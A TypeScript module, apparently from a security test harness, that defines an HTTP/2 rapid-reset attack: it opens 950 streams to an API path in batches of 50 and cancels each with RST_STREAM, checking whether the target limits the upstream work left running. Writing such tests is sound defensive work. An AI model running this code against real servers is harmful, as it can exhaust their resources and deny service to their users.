// Requests that are reset before upstream has answered: its own work goes on, and its limit is not of one user alone.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'hostile review 5',
  does: 'opens 950 lists that upstream does not answer, and resets them',
  who: ['known'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const get = request(head(target, 'GET', '/api/v1/pods?hostile=never'))
      let left = 950
      return {
        next() {
          if (left <= 0) return undefined
          left -= 50
          return connection.batch(50, (stream) => Buffer.concat([get(stream), h2.rstStream(stream, h2.CANCEL)]))
        },
      }
    }),
}
